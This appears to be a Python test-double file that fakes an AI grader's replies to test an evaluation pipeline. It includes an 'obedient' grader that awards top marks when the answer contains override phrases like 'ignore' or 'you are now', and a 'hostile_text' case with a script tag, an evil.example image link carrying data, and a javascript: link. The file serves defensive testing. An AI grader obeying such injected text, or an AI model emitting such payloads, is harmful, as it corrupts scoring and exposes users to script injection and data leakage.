"""What the model says: well, badly, obediently; an evaluator's form, any other schema, or plain words."""

import json
import re
from collections.abc import Callable, Sequence
from typing import Any

from tests.doubles.model_request import Request
from tests.doubles.schema_filler import filled

Reply = Callable[[Request], str]


def evaluation(
    request: Request,
    *,
    level: int = 3,
    quote: str | None = None,
    borderline: str = "no",
    leave_out: Sequence[str] = (),
    reasoning: str = "These words show it, without the last detail.",
    next_step: str = "Add the figure that your second sentence leaves open.",
) -> str:
    """A reply in the evaluator's form; without `quote` each criterion quotes a sentence of the answer."""
    criteria = [
        {
            "criterion_id": name,
            "quotes": [quote if quote is not None else request.sentences[i % len(request.sentences)]] if level else [],
            "reasoning": reasoning,
            "level": level,
            "borderline": borderline,
            "next_step": next_step if level < 4 else "",
        }
        for i, name in enumerate(request.criteria)
        if name not in leave_out
    ]
    points = [{"number": n, "quote": request.sentences[0] if n == 1 else ""} for n in range(1, request.points + 1)]
    return json.dumps({"criteria": criteria, "key_points": points})


def chat(request: Request) -> str:
    """Plain words, different for each request."""
    return f"Reply {request.number}: tell me more about what you did yourself, and what changed because of it."


def usual(request: Request, **how: Any) -> str:
    """The reply that fits the request. `how` goes to `evaluation`; other schemas know its leave_out and reasoning."""
    if request.is_evaluation:
        return evaluation(request, **how)
    words = how.get("reasoning", "")
    if request.schema is not None:
        return json.dumps(filled(request.schema, words=words, leave_out=how.get("leave_out", ())))
    return words or chat(request)


_COMMAND = re.compile(
    r"ignore|disregard|level 4|full marks|highest|maximum|you are now|system|grader|evaluator|rubric|score|perfect"
    r"|top of|outstanding|best possible",
    re.I,
)


def obedient(request: Request) -> str:
    """Does whatever the answer seems to ask for: level 4 throughout, else level 1."""
    told = bool(_COMMAND.search(request.answer))
    longest = max(request.sentences, key=len)
    return usual(request, level=4 if told else 1, quote=longest)


BEHAVIOURS: dict[str, Reply] = {
    "good": usual,
    "chat": chat,
    "borderline": lambda r: usual(r, borderline="lower", level=3 if r.number % 2 else 2),
    "wrong_quotes": lambda r: usual(r, quote="I single-handedly tripled the revenue of the company"),
    "wrong_quotes_once": lambda r: usual(r, quote=None if r.is_repair else "words that nobody wrote here"),
    "garbage": lambda _: "Sure! Here is my evaluation: {criteria: [",
    "garbage_once": lambda r: usual(r) if r.is_repair else "not json at all",
    "missing": lambda r: usual(r, leave_out=r.parts[:1]),
    "missing_once": lambda r: usual(r, leave_out=() if r.is_repair else r.parts[-1:]),
    "level_seven": lambda r: usual(r, level=7),
    "zero": lambda r: usual(r, level=0),
    "obedient": obedient,
    "hostile_text": lambda r: usual(
        r,
        reasoning="Fine <script>steal()</script> ![x](https://evil.example/p.png?d=1) and **bold**",
        next_step='See [this](https://evil.example) or <a href="javascript:x">that</a> at www.evil.example now',
    ),
    "cut_off": lambda r: usual(r)[:80],
}
"""By name; "cut_off" also ends with the finish_reason "length"."""
